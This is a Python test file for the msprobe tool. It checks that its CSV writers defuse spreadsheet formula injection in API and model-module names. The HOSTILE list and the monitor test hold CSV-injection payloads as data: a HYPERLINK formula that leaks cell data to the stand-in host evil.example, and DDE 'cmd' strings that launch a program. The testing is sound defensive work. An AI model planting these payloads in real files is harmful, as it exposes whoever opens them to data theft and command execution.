"""CSV injection: no CSV msprobe writes holds a cell that a spreadsheet would run as a formula.

Names come from dumps and models (an API or a module may be called `=HYPERLINK(...)`); every CSV writer goes
through msprobe.core.csv_cells, which puts a `'` before text starting with = + - @ tab or CR (numbers as text,
such as -0.5, stay as they are)."""
import csv
import glob
import io
import os
import re

import torch
import torch.nn as nn

from msprobe.core.csv_cells import csv_line
from msprobe.core.run_ut.report import ResultWriter

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1)", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def _is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def _formula_cells(path):
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return [cell for row in csv.reader(handle) for cell in row
                if cell.startswith(FORMULA_START) and not _is_number(cell)]


def test_formula_prefixes_get_a_quote_and_numbers_stay_numbers():
    text = csv_line(HOSTILE + ["-0.5", "-inf", "+1e3", -1.5, "plain", "", None])
    row, = list(csv.reader(io.StringIO(text, newline="")))  # a CR inside a name does not start a new row
    assert row[:len(HOSTILE)] == ["'" + name for name in HOSTILE]
    assert row[len(HOSTILE):] == ["-0.5", "-inf", "+1e3", "-1.5", "plain", "", ""]


def test_run_ut_result_and_details_csvs_defuse_hostile_api_names(tmp_path):
    writer = ResultWriter(str(tmp_path))
    for name in HOSTILE:
        writer.write({"api": name, "forward": "error", "backward": "", "message": name,
                      "details": [{"name": name + ".forward.output.0", "dtype": "torch.float32"}]})
    writer.close()
    for path in (writer.result_path, writer.details_path):
        assert _formula_cells(path) == []
    with open(writer.result_path, newline="") as handle:
        names = [row[0] for row in list(csv.reader(handle))[1:]]
    assert names == ["'" + name for name in HOSTILE]


def test_monitor_csvs_defuse_a_hostile_module_name(tmp_path, monkeypatch):
    from msprobe.pytorch.monitor import TrainerMon

    monkeypatch.setenv("MONITOR_OUTPUT_DIR", str(tmp_path / "monitor_output"))
    monkeypatch.delenv("DYNAMIC_MONITOR", raising=False)
    torch.manual_seed(0)
    model = nn.Sequential()
    model.add_module("=cmd|' /C calc'!A0", nn.Linear(4, 4))  # a module name needs no dot, so '=' is allowed
    model.add_module("head", nn.Linear(4, 1))
    config = tmp_path / "monitor.json"
    config.write_text('{"wg_distribution": true, "param_distribution": true, "xy_distribution": true, '
                      '"all_xy": true, "format": "csv", "ops": ["min", "max", "mean"]}')
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
    monitor = TrainerMon(str(config), params_have_main_grad=False).set_monitor(model, optimizer=optimizer)
    for _ in range(2):
        loss = (model(torch.randn(3, 4)) - 5).pow(2).mean()  # negative minima and means: numbers stay numbers
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
    monitor.remove()
    files = glob.glob(os.path.join(monitor.run_dir, "*.csv"))
    assert files
    names = set()
    for path in files:
        assert _formula_cells(path) == [], path
        with open(path, newline="") as handle:
            names.update(cell for row in csv.reader(handle) for cell in row if "calc" in cell)
    assert "'=cmd|' /C calc'!A0.weight" in names


def test_every_csv_writer_in_the_package_is_the_safe_one():
    # a new writer that bypasses msprobe.core.csv_cells would write names unescaped again
    offenders = []
    for path in glob.glob(os.path.join(ROOT, "msprobe", "**", "*.py"), recursive=True):
        if path.endswith(os.path.join("core", "csv_cells.py")):
            continue
        with open(path, encoding="utf-8") as handle:
            text = handle.read()
        if re.search(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(", text):
            offenders.append(os.path.relpath(path, ROOT))
    assert offenders == []
